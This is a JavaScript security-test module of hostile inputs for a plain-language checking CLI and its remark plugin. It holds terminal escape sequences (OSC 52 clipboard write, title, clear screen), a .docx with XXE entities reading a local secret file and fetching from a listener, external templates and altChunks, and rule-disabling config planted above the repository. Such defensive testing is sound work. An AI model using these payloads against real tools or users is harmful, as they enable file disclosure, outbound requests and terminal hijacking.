// Round 3, items 5, 8 and 9 (configuration and terminals): control characters from input reaching
// the terminal, config discovery past the repository's root, rule options never checked,
// remark-plainspeak options of the wrong shape, the line of a CESU-8 surrogate, and a .docx that
// points outside itself (external entities, linked pictures, attached templates, altChunk).
//
// The builders are exported for test/hostile/config-terminals.test.ts.
import {spawn} from 'node:child_process'
import {chmodSync, mkdirSync, rmSync, writeFileSync} from 'node:fs'
import {createServer} from 'node:http'
import path from 'node:path'
import {buildZip} from '../../hostile/attacks.js'

/** Set the clipboard (OSC 52), clear the screen, set the window title (OSC 0), a C1 CSI and DEL. */
export const terminalAttack = '\u001b]52;c;cGxhaW5zcGVhaw==\u0007\u001b[2J\u001b]0;pwned\u0007\u009b31m\u007f'

/** Raw control characters a terminal would act on (tab and line feed aside), in any of the texts. */
export function rawControls(...texts) {
  return texts.reduce((count, text) => count + (text.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g)?.length ?? 0), 0)
}

const ns = {
  w: 'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
  r: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships',
  rel: 'http://schemas.openxmlformats.org/package/2006/relationships',
  wp: 'http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing',
  a: 'http://schemas.openxmlformats.org/drawingml/2006/main',
  pic: 'http://schemas.openxmlformats.org/drawingml/2006/picture'
}
const types = {
  image: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/image',
  altChunk: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk',
  template: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate',
  hyperlink: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink',
  settings: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings'
}
const escapeXml = (text) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;')

/** A paragraph whose visible text is `text`, as Word writes it. */
const paragraph = (text) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`

/** A Word document's parts: `body` is the XML inside <w:body>, `prolog` goes before <w:document>. */
function wordPackage({body, prolog = '', documentRelationships = '', settings, settingsRelationships}) {
  const parts = [
    {
      name: '[Content_Types].xml',
      data:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
        (settings ? '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>' : '') +
        '</Types>'
    },
    {
      name: '_rels/.rels',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${ns.rel}"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`
    },
    {
      name: 'word/document.xml',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>${prolog}<w:document xmlns:w="${ns.w}" xmlns:r="${ns.r}" xmlns:wp="${ns.wp}" xmlns:a="${ns.a}" xmlns:pic="${ns.pic}"><w:body>${body}</w:body></w:document>`
    },
    {
      name: 'word/_rels/document.xml.rels',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${ns.rel}">${settings ? `<Relationship Id="rIdSettings" Type="${types.settings}" Target="settings.xml"/>` : ''}${documentRelationships}</Relationships>`
    }
  ]
  if (settings) parts.push({name: 'word/settings.xml', data: settings})
  if (settingsRelationships) parts.push({name: 'word/_rels/settings.xml.rels', data: settingsRelationships})
  return buildZip(parts)
}

/**
 * A .docx that reaches outside itself every way WordprocessingML allows: external entities in
 * document.xml (a local secret file and an address on `base`), a linked picture, an attached
 * template, an altChunk with TargetMode="External", an INCLUDETEXT/INCLUDEPICTURE field and an
 * external hyperlink. `base` is a listener's address (`http://127.0.0.1:PORT`), `secretFile` a
 * file whose text must never appear. Its visible text has one finding ("signpost").
 */
export function docxReachingOut({base, secretFile, entities = true}) {
  const external = (id, type, target) => `<Relationship Id="${id}" Type="${type}" Target="${escapeXml(target)}" TargetMode="External"/>`
  const prolog = `<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file://${secretFile}"><!ENTITY remote SYSTEM "${base}/entity"><!ENTITY % dtd SYSTEM "${base}/dtd"> %dtd;]>`
  const linkedPicture =
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="Picture"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">' +
    '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="linked.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdPicture"/></pic:blipFill><pic:spPr/></pic:pic>' +
    '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
  const body =
    paragraph('The council will signpost residents to advice.') +
    paragraph('Entity: &secret; &remote;') +
    linkedPicture +
    '<w:altChunk r:id="rIdChunk"/><w:altChunk r:id="rIdLocalChunk"/>' +
    `<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;${base}/include&quot;"><w:r><w:t>included</w:t></w:r></w:fldSimple></w:p>` +
    `<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;${base}/picture-field.png&quot; \\d"><w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>` +
    '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>our website</w:t></w:r></w:hyperlink></w:p>'
  return wordPackage({
    prolog: entities ? prolog : '',
    body: entities ? body : body.replace(paragraph('Entity: &secret; &remote;'), ''),
    documentRelationships:
      external('rIdPicture', types.image, `${base}/linked.png`) +
      external('rIdChunk', types.altChunk, `${base}/chunk.html`) +
      external('rIdLocalChunk', types.altChunk, `file://${secretFile}`) +
      external('rIdLink', types.hyperlink, `${base}/link`),
    settings: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="${ns.w}" xmlns:r="${ns.r}"><w:attachedTemplate r:id="rIdTemplate"/></w:settings>`,
    settingsRelationships: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${ns.rel}">${external('rIdTemplate', types.template, `${base}/template.dotx`)}</Relationships>`
  })
}

/** A .docx whose paragraph opens with terminal commands, before a finding (stylish quotes the opening). */
export function docxWithEscapes() {
  // Raw, as XML 1.0 forbids: the reader is lenient and takes them.
  return wordPackage({body: paragraph(`${terminalAttack}Report. The council will signpost residents.`)})
}

/** A listener on 127.0.0.1 that records every request; `close()` resolves with them. */
export async function listener() {
  const requests = []
  const server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`)
    response.end('LISTENER-ANSWERED')
  })
  server.on('connection', () => requests.push('connection'))
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    base: `http://127.0.0.1:${server.address().port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve(requests)))
  }
}

/** Runs a remark-plainspeak script with these options under `root`; resolves like runCli. */
function runRemark(root, options) {
  const script = `
    import {remark} from 'remark'
    import plugin from ${JSON.stringify(path.join(root, 'packages/remark-plainspeak/dist/index.js'))}
    try {
      const file = await remark().use(plugin, ${options}).process('The council will signpost residents.\\n')
      console.log(file.messages.map((message) => message.reason).join('\\n'))
    } catch (error) {
      // What a program using the plugin sees: the error's name and message.
      console.error(error.name + ': ' + error.message)
      process.exitCode = 1
    }`
  return new Promise((resolve) => {
    const started = performance.now()
    const child = spawn(process.execPath, ['--input-type=module', '-e', script], {cwd: root, stdio: ['ignore', 'pipe', 'pipe']})
    let stdout = ''
    let stderr = ''
    child.stdout.on('data', (chunk) => (stdout += chunk))
    child.stderr.on('data', (chunk) => (stderr += chunk))
    child.on('close', (code) => resolve({exit: code, seconds: Math.round((performance.now() - started) / 10) / 100, stdout, stderr}))
  })
}

export default function register(attack, {runCli, folder, leaked, secret}) {
  const sentence = 'The council will signpost residents to advice.\n'

  attack('r3-5a', 'file names from a folder walk holding OSC 52, clear-screen and title sequences: check --no-color, and -f github', async () => {
    const dir = folder({'.git/HEAD': 'ref: refs/heads/main\n'})
    writeFileSync(path.join(dir, `notes${terminalAttack}.md`), sentence)
    const stylish = await runCli(['check', '--no-color'], {cwd: dir})
    const github = await runCli(['check', '-f', 'github'], {cwd: dir})
    rmSync(dir, {recursive: true, force: true})
    return {...stylish, rawControls: rawControls(stylish.stdout, stylish.stderr, github.stdout, github.stderr)}
  })

  attack('r3-5b', '.docx paragraph opening holding the same sequences: check --no-color', async () => {
    const dir = folder({'.git/HEAD': 'x\n', 'paper.docx': docxWithEscapes()})
    const result = await runCli(['check', '--no-color', 'paper.docx'], {cwd: dir})
    rmSync(dir, {recursive: true, force: true})
    return {...result, rawControls: rawControls(result.stdout, result.stderr)}
  })

  attack('r3-5c', 'a heading and an acronym meaning with the sequences: stats and glossary text, and a config value in an error', async () => {
    const dir = folder({
      '.git/HEAD': 'x\n',
      'paper.md': `# Plan${terminalAttack}\n\nThe Joint Strategic Needs Assessment (JSNA${terminalAttack}) was agreed.\n`,
      'bad/.plainspeakrc.yml': `audience: "board${terminalAttack.replace(/\u001b/g, '\\e').replace(/\u0007/g, '\\a').replace(/\u009b/g, '\\x9b').replace(/\u007f/g, '\\x7f')}"\n`,
      'bad/a.md': sentence
    })
    const stats = await runCli(['stats', 'paper.md'], {cwd: dir})
    const glossary = await runCli(['glossary', '-f', 'text', 'paper.md'], {cwd: dir})
    const config = await runCli(['check', '--no-color', 'bad/a.md'], {cwd: dir})
    rmSync(dir, {recursive: true, force: true})
    return {...config, rawControls: rawControls(stats.stdout, stats.stderr, glossary.stdout, glossary.stderr, config.stdout, config.stderr)}
  })

  attack('r3-8c', 'a .plainspeakrc switching every rule off in a world-writable folder above the project', async () => {
    const shared = folder({})
    chmodSync(shared, 0o777)
    const rules = ['acronym-undefined', 'jargon', 'simpler-word', 'inclusive', 'readability', 'sentence-length', 'passive']
    writeFileSync(path.join(shared, '.plainspeakrc.yml'), `rules:\n${rules.map((rule) => `  ${rule}: off`).join('\n')}\n`)
    mkdirSync(path.join(shared, 'project'))
    writeFileSync(path.join(shared, 'project', 'paper.md'), sentence)
    const result = await runCli(['check', '-f', 'json', 'paper.md'], {cwd: path.join(shared, 'project')})
    rmSync(shared, {recursive: true, force: true})
    let findings
    try {
      findings = JSON.parse(result.stdout).reduce((total, file) => total + file.messages.length, 0)
    } catch {}
    return {...result, findings}
  })

  attack('r3-8d', 'a config above the repository root naming a broken dictionary', async () => {
    const parent = folder({'.plainspeakrc.yml': 'dictionaries: [broken.yml]\n', 'broken.yml': 'terms:\n  - term: [oops\n', 'repo/.git/HEAD': 'x\n', 'repo/paper.md': sentence})
    const result = await runCli(['check', '-f', 'json', 'paper.md'], {cwd: path.join(parent, 'repo')})
    rmSync(parent, {recursive: true, force: true})
    return {...result, checked: result.stdout.trim().startsWith('[')}
  })

  attack('r3-8e', 'rule options max: "abc" and age: -1e308 in .plainspeakrc.yml', async () => {
    const long = 'The council will set out in this plan how each of the services that it runs for residents will change over the next five years and why.\n'
    const dir = folder({'.git/HEAD': 'x\n', '.plainspeakrc.yml': 'rules:\n  sentence-length: [warning, {max: abc}]\n  readability: [warning, {age: -1e308}]\n', 'paper.md': long})
    const result = await runCli(['check', '--no-color', 'paper.md'], {cwd: dir})
    rmSync(dir, {recursive: true, force: true})
    return {...result, nan: /NaN|-1e\+308 or below/.test(result.stdout + result.stderr)}
  })

  attack('r3-8f', 'front matter max: .nan', async () => {
    const dir = folder({'.git/HEAD': 'x\n', 'paper.md': `---\nplainspeak:\n  rules:\n    sentence-length: [warning, {max: .nan}]\n---\n\n${sentence}`})
    const result = await runCli(['check', '--no-color', 'paper.md'], {cwd: dir})
    rmSync(dir, {recursive: true, force: true})
    return {...result, nan: /NaN words/.test(result.stdout + result.stderr)}
  })

  attack('r3-8g', 'remark-plainspeak options of the wrong shape: a dictionary layer {terms: 5}', async () => {
    const root = process.env.PLAINSPEAK_BENCH_ROOT ? path.resolve(process.env.PLAINSPEAK_BENCH_ROOT) : path.resolve(import.meta.dirname, '../../..')
    const result = await runRemark(root, '{dictionaries: [{terms: 5}]}')
    return {...result, typeError: /TypeError/.test(result.stderr), stackLines: result.stderr.split('\n').filter((line) => /^\s+at /.test(line)).length}
  })

  attack('r3-8h', 'a CESU-8 surrogate (ED A0 80) on line 2 of a 5-line UTF-8 file', async () => {
    const dir = folder({'.git/HEAD': 'x\n', 'paper.txt': Buffer.concat([Buffer.from('Line one\nLine two '), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(' here\nLine three\nLine four\nLine five\n')])})
    const result = await runCli(['check', 'paper.txt'], {cwd: dir})
    rmSync(dir, {recursive: true, force: true})
    return {...result, rightLine: /line 2\b/.test(result.stderr)}
  })

  attack('r3-9a', '.docx with external entities, a linked picture, an attached template, external altChunks and fields: nothing fetched, nothing quoted', async () => {
    const server = await listener()
    const dir = folder({'.git/HEAD': 'x\n'})
    const secretFile = path.join(dir, 'secret.txt')
    writeFileSync(secretFile, `password ${secret}\n`)
    writeFileSync(path.join(dir, 'entities.docx'), docxReachingOut({base: server.base, secretFile}))
    writeFileSync(path.join(dir, 'paper.docx'), docxReachingOut({base: server.base, secretFile, entities: false}))
    const result = await runCli(['check', '-f', 'json', 'paper.docx', 'entities.docx'], {cwd: dir})
    const stats = await runCli(['stats', 'paper.docx'], {cwd: dir})
    const requests = await server.close()
    rmSync(dir, {recursive: true, force: true})
    const everything = result.stdout + result.stderr + stats.stdout + stats.stderr
    let findings
    try {
      findings = JSON.parse(result.stdout).reduce((total, file) => total + file.messages.length, 0)
    } catch {}
    return {...result, findings, requests: requests.length, leaked: leaked(everything), quotedAnswer: everything.includes('LISTENER-ANSWERED')}
  })
}
